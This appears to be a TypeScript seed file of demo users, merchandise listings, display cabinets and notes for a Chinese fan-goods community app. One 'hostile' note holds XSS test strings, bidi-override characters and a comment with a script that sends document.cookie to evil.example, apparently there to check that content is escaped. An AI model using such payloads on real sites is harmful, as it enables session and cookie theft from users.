import type { DemoUserKey } from './demo-ids.ts';
import type { GoodsStatus } from '@guquan/contract/share';
import type { Visibility } from '../../db/schema.ts';
import { DEMO_IDS } from './demo-ids.ts';
import type { PictureShape, PictureSpec } from './demo-images.ts';

/**
 * The demo community: a few fans, their goods across several works, cabinets and notes, written
 * the way people write them in the app. Items without a DEMO_IDS entry get a fresh random id at
 * each seed; the ones tests link to have fixed ids.
 */

export interface DemoImage {
  picture: PictureSpec;
  alt: string;
}

export interface DemoUser {
  key: DemoUserKey;
  nickname: string;
  avatar: DemoImage | null;
}

export interface DemoGoods {
  key: string;
  publicId?: string;
  owner: string;
  name: string;
  work: string;
  character: string | null;
  category: string;
  priceFen: number | null;
  status: GoodsStatus;
  text: string;
  tags: string[];
  likes: number;
  wants: number;
  visibility: Visibility;
  removed: boolean;
  images: DemoImage[];
  daysAgo: number;
}

export interface DemoCabinet {
  publicId?: string;
  owner: string;
  name: string;
  cover: DemoImage;
  text: string;
  likes: number;
  visibility: Visibility;
  removed: boolean;
  goods: string[];
  daysAgo: number;
}

export interface DemoComment {
  author: string;
  text: string;
  likes: number;
  removed?: boolean;
  /** After the note was posted. */
  minutesAfter: number;
}

export interface DemoNote {
  publicId?: string;
  author: string;
  title: string;
  text: string;
  tags: string[];
  likes: number;
  collects: number;
  visibility: Visibility;
  removed: boolean;
  images: DemoImage[];
  comments: DemoComment[];
  daysAgo: number;
}

/** Every work has its own palette, so its goods look alike. */
const WORK_PALETTES: Readonly<Record<string, number>> = {
  咒术回战: 0,
  '排球少年!!': 1,
  蓝色监狱: 2,
  间谍过家家: 3,
  原神: 4,
  '崩坏：星穹铁道': 5,
  恋与深空: 6,
  名侦探柯南: 7,
};

const CATEGORY_SHAPES: Readonly<Record<string, PictureShape>> = {
  吧唧: 'badge',
  立牌: 'stand',
  色纸: 'shikishi',
  镭射票: 'ticket',
  小卡: 'card',
  棉花娃娃: 'plush',
  挂件: 'charm',
  拍立得: 'instax',
};

let variant = 0;
function picture(shape: PictureShape, palette: number): PictureSpec {
  variant += 1;
  return { shape, palette, variant };
}

export const DEMO_USERS: readonly DemoUser[] = [
  { key: 'yuyuan', nickname: '芋圆不加冰', avatar: avatar(0, '芋圆不加冰的头像') },
  { key: 'satoru', nickname: '五条悟的猫猫', avatar: avatar(6, '五条悟的猫猫的头像') },
  { key: 'karasuno', nickname: '乌野排球部后援会', avatar: avatar(1, '乌野排球部后援会的头像') },
  { key: 'chigu', nickname: '今天也在吃谷', avatar: avatar(4, '今天也在吃谷的头像') },
  { key: 'conductor', nickname: '列车长的票夹', avatar: avatar(5, '列车长的票夹的头像') },
  // No avatar: the pages show their placeholder.
  { key: 'beika', nickname: '米花町常住民', avatar: null },
];

function avatar(palette: number, alt: string): DemoImage {
  return { picture: picture('avatar', palette), alt };
}

interface GoodsLine {
  key: string;
  publicId?: string;
  owner: string;
  work: string;
  character: string | null;
  category: string;
  name: string;
  price: string | null;
  status: GoodsStatus;
  likes: number;
  wants: number;
  tags: string[];
  text: string;
  visibility?: Visibility;
  removed?: boolean;
  /** More pictures after the goods' own (shape of its category). */
  extra?: PictureShape[];
}

function fen(price: string | null): number | null {
  return price === null ? null : Math.round(Number(price) * 100);
}

const GOODS_LINES: readonly GoodsLine[] = [
  {
    key: 'gallery',
    publicId: DEMO_IDS.goods.gallery,
    owner: 'yuyuan',
    work: '咒术回战',
    character: '五条悟',
    category: '吧唧',
    name: '五条悟 涩谷事变 闪光吧唧 58mm',
    price: '35.00',
    status: 'selling',
    likes: 128,
    wants: 17,
    tags: ['咒术回战', '五条悟', '吧唧', '闪吧', '出谷'],
    text: '出一枚五条悟涩谷事变闪吧～\n谷美，无划痕无氧化，自带原装背卡和OPP袋。\n\n价格包邮，偏远地区补邮费。\n不刀不换，诚心要的宝宝直接拍～\n可以小窗看细节图📷',
    extra: ['card', 'photo', 'ticket', 'instax'],
  },
  {
    key: 'noPrice',
    publicId: DEMO_IDS.goods.noPrice,
    owner: 'yuyuan',
    work: '排球少年!!',
    character: '日向翔阳',
    category: '立牌',
    name: '日向翔阳 乌野应援 亚克力立牌',
    price: null,
    status: 'display',
    likes: 56,
    wants: 3,
    tags: ['排球少年', '日向翔阳', '立牌'],
    text: '终于到家了！！！日向在柜子里站C位☀️ 只展示不出哦',
  },
  {
    key: 'wanted',
    publicId: DEMO_IDS.goods.wanted,
    owner: 'satoru',
    work: '蓝色监狱',
    character: '凪诚士郎',
    category: '色纸',
    name: '收 凪诚士郎 生日色纸',
    price: '60.00',
    status: 'wanted',
    likes: 12,
    wants: 9,
    tags: ['蓝色监狱', '凪诚士郎', '收谷'],
    text: '收凪的生日色纸，预算60以内～\n有的宝宝直接滴滴我，谷美优先，可以先看图再决定！',
  },
  {
    key: 'private',
    publicId: DEMO_IDS.goods.private,
    owner: 'yuyuan',
    work: '咒术回战',
    character: '伏黑惠',
    category: '小卡',
    name: '伏黑惠 自留小卡',
    price: null,
    status: 'display',
    likes: 4,
    wants: 0,
    tags: ['自留'],
    text: '只给自己看的本命卡。',
    visibility: 'private',
  },
  {
    key: 'removed',
    publicId: DEMO_IDS.goods.removed,
    owner: 'yuyuan',
    work: '咒术回战',
    character: '虎杖悠仁',
    category: '挂件',
    name: '虎杖悠仁 亚克力挂件',
    price: '25.00',
    status: 'selling',
    likes: 8,
    wants: 2,
    tags: ['咒术回战', '虎杖悠仁'],
    text: '已出，感谢宝宝～',
    removed: true,
  },
  // 芋圆不加冰: the main cabinet's goods.
  ...(
    [
      ['咒术回战', '五条悟', '立牌', '五条悟 0卷 电影纪念立牌', '88.00', 'selling'],
      ['咒术回战', '夏油杰', '吧唧', '夏油杰 怀玉篇 吧唧', '30.00', 'selling'],
      ['咒术回战', '伏黑惠', '色纸', '伏黑惠 场景色纸', null, 'display'],
      ['咒术回战', '钉崎野蔷薇', '小卡', '钉崎野蔷薇 咖啡厅联动小卡', '12.00', 'selling'],
      ['咒术回战', '狗卷棘', '棉花娃娃', '狗卷棘 20cm 棉花娃娃', null, 'display'],
      ['咒术回战', '乙骨忧太', '镭射票', '乙骨忧太 镭射票', '18.00', 'selling'],
      ['咒术回战', '五条悟', '拍立得', '五条悟 拍立得 生日款', null, 'display'],
      ['咒术回战', '七海建人', '挂件', '七海建人 亚克力挂件', '28.00', 'selling'],
      ['排球少年!!', '影山飞雄', '吧唧', '影山飞雄 垃圾场决战 吧唧', '32.00', 'selling'],
      ['排球少年!!', '及川彻', '立牌', '及川彻 青叶城西 立牌', null, 'display'],
      ['排球少年!!', '孤爪研磨', '棉花娃娃', '孤爪研磨 猫咪睡衣 棉花娃娃', null, 'display'],
      ['排球少年!!', '黑尾铁朗', '色纸', '黑尾铁朗 音驹 色纸', '45.00', 'selling'],
      ['排球少年!!', '木兔光太郎', '小卡', '木兔光太郎 小卡 一套三张', '20.00', 'selling'],
      ['排球少年!!', '日向翔阳', '镭射票', '日向翔阳 剧场版 镭射票', null, 'display'],
      ['排球少年!!', '西谷夕', '挂件', '西谷夕 挂件', '22.00', 'selling'],
      ['排球少年!!', '月岛萤', '拍立得', '月岛萤 拍立得', null, 'display'],
      ['排球少年!!', '宫侑', '吧唧', '宫侑 稻荷崎 吧唧', '26.00', 'selling'],
      ['咒术回战', '虎杖悠仁', '吧唧', '虎杖悠仁 第二季 吧唧', '28.00', 'selling'],
    ] as const
  ).map(([work, character, category, name, price, status], index): GoodsLine => ({
    key: `cabinet-${index}`,
    owner: 'yuyuan',
    work,
    character,
    category,
    name,
    price,
    status,
    likes: 10 + ((index * 37) % 90),
    wants: (index * 7) % 15,
    tags: [work.replace('!!', ''), character, category],
    text:
      status === 'selling'
        ? `出${character}的${category}～谷美，到手就进了柜子没拆过。\n包邮，不刀，可以小窗看细节图。`
        : `${character}的${category}，自己柜子里的宝贝，只展示不出哦🥹`,
    ...(index % 5 === 0 ? { extra: ['photo' as const] } : {}),
  })),
  // The others' goods.
  ...(
    [
      ['satoru', '蓝色监狱', '洁世一', '吧唧', '洁世一 吧唧 第二弹', '30.00', 'selling'],
      ['satoru', '蓝色监狱', '蜂乐回', '立牌', '蜂乐回 立牌', null, 'display'],
      ['satoru', '恋与深空', '沈星回', '小卡', '沈星回 生日小卡', '15.00', 'selling'],
      ['satoru', '恋与深空', '黎深', '镭射票', '收 黎深 镭射票', '20.00', 'wanted'],
      ['satoru', '恋与深空', '祁煜', '棉花娃娃', '祁煜 棉花娃娃 10cm', null, 'display'],
      ['karasuno', '排球少年!!', '菅原孝支', '色纸', '菅原孝支 色纸', '40.00', 'selling'],
      ['karasuno', '排球少年!!', '泽村大地', '吧唧', '收 泽村大地 吧唧', '25.00', 'wanted'],
      ['karasuno', '间谍过家家', '阿尼亚', '棉花娃娃', '阿尼亚 花生款 棉花娃娃', null, 'display'],
      ['karasuno', '间谍过家家', '约尔', '立牌', '约尔 礼服 立牌', '55.00', 'selling'],
      ['chigu', '原神', '钟离', '吧唧', '钟离 生日吧唧', '35.00', 'selling'],
      ['chigu', '原神', '那维莱特', '拍立得', '那维莱特 拍立得', null, 'display'],
      ['chigu', '原神', '枫原万叶', '挂件', '枫原万叶 流沙挂件', '38.00', 'selling'],
      ['chigu', '原神', '胡桃', '小卡', '收 胡桃 小卡', '10.00', 'wanted'],
      ['conductor', '崩坏：星穹铁道', '丹恒', '镭射票', '丹恒 镭射票', '16.00', 'selling'],
      ['conductor', '崩坏：星穹铁道', '景元', '立牌', '景元 立牌', null, 'display'],
      ['conductor', '崩坏：星穹铁道', '三月七', '吧唧', '三月七 吧唧 一套', '66.00', 'selling'],
      ['beika', '名侦探柯南', '江户川柯南', '挂件', '柯南 侦探徽章 挂件', null, 'display'],
      ['beika', '名侦探柯南', '安室透', '色纸', '安室透 零 色纸', '50.00', 'selling'],
      ['beika', '名侦探柯南', '怪盗基德', '拍立得', '收 怪盗基德 拍立得', '30.00', 'wanted'],
    ] as const
  ).map(([owner, work, character, category, name, price, status], index): GoodsLine => ({
    key: `other-${index}`,
    owner,
    work,
    character,
    category,
    name,
    price,
    status,
    likes: 5 + ((index * 53) % 120),
    wants: (index * 11) % 20,
    tags: [work.replace('!!', ''), character, status === 'wanted' ? '收谷' : category],
    text:
      status === 'wanted'
        ? `收${character}的${category}！预算见价格，谷美优先～\n有的宝宝滴滴，可以先看图。`
        : status === 'selling'
          ? `出${character}的${category}，谷美，包邮～\n同担可以小刀，溢价勿扰。`
          : `${character}的${category}到家啦！只展示，不出不换✨`,
  })),
];

export const DEMO_GOODS: readonly DemoGoods[] = GOODS_LINES.map((line, index) => {
  const palette = WORK_PALETTES[line.work] ?? 0;
  const own = CATEGORY_SHAPES[line.category] ?? 'photo';
  return {
    key: line.key,
    publicId: line.publicId,
    owner: line.owner,
    name: line.name,
    work: line.work,
    character: line.character,
    category: line.category,
    priceFen: fen(line.price),
    status: line.status,
    text: line.text,
    tags: line.tags,
    likes: line.likes,
    wants: line.wants,
    visibility: line.visibility ?? 'public',
    removed: line.removed ?? false,
    images: [own, ...(line.extra ?? [])].map((shape, position) => ({
      picture: picture(shape, palette),
      alt:
        position === 0
          ? `${line.character ?? line.work}的${line.category}`
          : `${line.name}：细节图 ${position}`,
    })),
    daysAgo: 2 + index,
  };
});

export const DEMO_CABINETS: readonly DemoCabinet[] = [
  {
    publicId: DEMO_IDS.cabinets.main,
    owner: 'yuyuan',
    name: '芋圆的咒回×排球痛柜',
    cover: { picture: picture('shelf', 0), alt: '摆满吧唧、立牌和娃娃的痛柜' },
    text: '两层咒回一层排球，灯带是暖白色的～\n每次出门回家看一眼就很幸福。柜子里的谷大部分不出，标了出的可以小窗！',
    likes: 342,
    visibility: 'public',
    removed: false,
    goods: [
      'gallery',
      'noPrice',
      ...Array.from({ length: 9 }, (_, index) => `cabinet-${index}`),
      'private',
      'removed',
      ...Array.from({ length: 9 }, (_, index) => `cabinet-${index + 9}`),
    ],
    daysAgo: 1,
  },
  {
    owner: 'chigu',
    name: '提瓦特小金库',
    cover: { picture: picture('shelf', 4), alt: '原神谷子排成三层的柜子' },
    text: '原神谷专柜，钟离是镇柜之宝。',
    likes: 88,
    visibility: 'public',
    removed: false,
    goods: ['other-9', 'other-10', 'other-11', 'other-12'],
    daysAgo: 5,
  },
  {
    owner: 'conductor',
    name: '列车上的收藏室',
    cover: { picture: picture('shelf', 5), alt: '星穹铁道的镭射票和立牌' },
    text: '票夹满了，开了个新柜子。',
    likes: 41,
    visibility: 'public',
    removed: false,
    goods: ['other-13', 'other-14', 'other-15'],
    daysAgo: 9,
  },
  {
    publicId: DEMO_IDS.cabinets.private,
    owner: 'satoru',
    name: '不给看的小柜子',
    cover: { picture: picture('shelf', 6), alt: '一个装着小卡的柜子' },
    text: '自己看看就好。',
    likes: 3,
    visibility: 'private',
    removed: false,
    goods: ['other-0', 'other-2'],
    daysAgo: 12,
  },
  {
    publicId: DEMO_IDS.cabinets.removed,
    owner: 'karasuno',
    name: '搬家前的旧柜子',
    cover: { picture: picture('shelf', 1), alt: '空了一半的柜子' },
    text: '搬家了，这个柜子不用了。',
    likes: 19,
    visibility: 'public',
    removed: true,
    goods: ['other-5', 'other-7'],
    daysAgo: 30,
  },
];

const LONG_WORD = `啊${'a'.repeat(160)}${'好耶'.repeat(40)}${'x'.repeat(120)}`;

export const DEMO_NOTES: readonly DemoNote[] = [
  {
    publicId: DEMO_IDS.notes.rich,
    author: 'chigu',
    title: '吃谷半年，我的痛柜布置心得（附避雷清单）',
    text: [
      '半年前还只有两个吧唧，现在一整个柜子都满了😭 总结一下这段时间的经验，给刚入坑的宝宝们：',
      '',
      '1. 吧唧先买保护套再上墙，灯带选暖白，不然会偏色',
      '2. 立牌底座记得撕膜！！！',
      '3. 镭射票放票夹，别直接晒太阳',
      '',
      '#痛柜 #吃谷日常 #新手入坑',
      '',
      '柜子是在 https://example.com/cabinet-guide 看的教程，灯带参考了 @列车长的票夹 的分享，',
      '吧唧保护套对比见 http://example.org/badge-cases?from=guquan',
      '',
      '有人私信发我 javascript:alert(document.cookie) 说是“领取福利”的链接，千万别点！',
      '',
      '交易一定走平台担保，@芋圆不加冰 之前就差点被骗。',
    ].join('\n'),
    tags: ['痛柜', '吃谷日常', '新手入坑'],
    likes: 1024,
    collects: 356,
    visibility: 'public',
    removed: false,
    images: [
      { picture: picture('photo', 4), alt: '柜子正面全景' },
      { picture: picture('shelf', 4), alt: '第二层的吧唧墙' },
      { picture: picture('instax', 4), alt: '新到的拍立得' },
    ],
    comments: [
      { author: 'yuyuan', text: '收藏了！底座撕膜真的是血泪教训😂', likes: 88, minutesAfter: 12 },
      {
        author: 'conductor',
        text: '谢谢艾特～灯带是在家居店买的，暖白 3000K。',
        likes: 65,
        minutesAfter: 30,
      },
      { author: 'satoru', text: '想问一下吧唧保护套用的是哪种厚度？', likes: 65, minutesAfter: 45 },
      { author: 'karasuno', text: '柜子好好看，想抄作业！', likes: 20, minutesAfter: 90 },
      {
        author: 'beika',
        text: '防骗提醒太有用了，转给群里的姐妹了。',
        likes: 12,
        minutesAfter: 180,
      },
      {
        author: 'beika',
        text: '加我好友低价出谷，私聊～',
        likes: 0,
        removed: true,
        minutesAfter: 200,
      },
      {
        author: 'chigu',
        text: '@五条悟的猫猫 我用的是 35C 的，刚好。',
        likes: 5,
        minutesAfter: 240,
      },
    ],
    daysAgo: 3,
  },
  {
    publicId: DEMO_IDS.notes.hostile,
    author: 'beika',
    title: '<script>alert(1)</script></title><b>曝光</b>一个骗子 & "引号"',
    text: [
      '<img src=x onerror=alert(1)> 这不是图片，是文字。',
      '</title></head><body><h1>大标题？</h1><iframe src="https://example.com"></iframe>',
      '<a href="javascript:alert(1)">点我领福利</a> &amp; &lt;escaped&gt; {{constructor.constructor("alert(1)")()}}',
      '',
      '反向文字：\u202Eevil.exe\u202C 以及零宽\u200B字\u200C符\u200D在这里\uFEFF。',
      'Emoji：👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇨🇳 🥹✨',
      '',
      `超长不换行：${LONG_WORD}`,
      '',
      '#<b>标签</b> @<script>',
    ].join('\n'),
    tags: ['<b>标签</b>', '"引号"', '\u202E反向'],
    likes: 7,
    collects: 1,
    visibility: 'public',
    removed: false,
    images: [{ picture: picture('photo', 7), alt: '<img src=x onerror=alert(1)>' }],
    comments: [
      {
        author: 'satoru',
        text: '<script>document.location="https://evil.example/?c="+document.cookie</script>\u202E楼主说得对',
        likes: 3,
        minutesAfter: 5,
      },
      {
        author: 'yuyuan',
        text: '这条笔记里的代码都应该原样显示成文字。',
        likes: 1,
        minutesAfter: 20,
      },
    ],
    daysAgo: 4,
  },
  {
    publicId: DEMO_IDS.notes.noImages,
    author: 'karasuno',
    title: '排球少年剧场版二刷感想',
    text: '二刷还是哭成狗……\n音驹和乌野的最后一球真的太好了。\n\n散场的时候拿到了研磨的镭射票，运气爆棚！\n#排球少年 #剧场版',
    tags: ['排球少年', '剧场版'],
    likes: 233,
    collects: 18,
    visibility: 'public',
    removed: false,
    images: [],
    comments: [
      { author: 'yuyuan', text: '我拿到的是日向！可以换吗🥺', likes: 9, minutesAfter: 15 },
    ],
    daysAgo: 6,
  },
  {
    author: 'conductor',
    title: '镭射票收纳大法，整理了一下午',
    text: '用了三本票夹，按角色分好类。\n丹恒那一本已经快满了。\n#镭射票 #收纳',
    tags: ['镭射票', '收纳'],
    likes: 96,
    collects: 40,
    visibility: 'public',
    removed: false,
    images: [
      { picture: picture('ticket', 5), alt: '排好的镭射票' },
      { picture: picture('photo', 5), alt: '三本票夹' },
    ],
    comments: [{ author: 'chigu', text: '票夹在哪买的呀？', likes: 2, minutesAfter: 8 }],
    daysAgo: 8,
  },
  {
    publicId: DEMO_IDS.notes.private,
    author: 'satoru',
    title: '恋与深空抽卡记录（自己看）',
    text: '这个月又沉船了。',
    tags: ['恋与深空'],
    likes: 0,
    collects: 0,
    visibility: 'private',
    removed: false,
    images: [],
    comments: [],
    daysAgo: 10,
  },
  {
    publicId: DEMO_IDS.notes.removed,
    author: 'conductor',
    title: '出星铁吧唧（已删除）',
    text: '已经出完了。',
    tags: ['崩坏：星穹铁道'],
    likes: 11,
    collects: 2,
    visibility: 'public',
    removed: true,
    images: [{ picture: picture('badge', 5), alt: '星铁吧唧' }],
    comments: [],
    daysAgo: 20,
  },
];
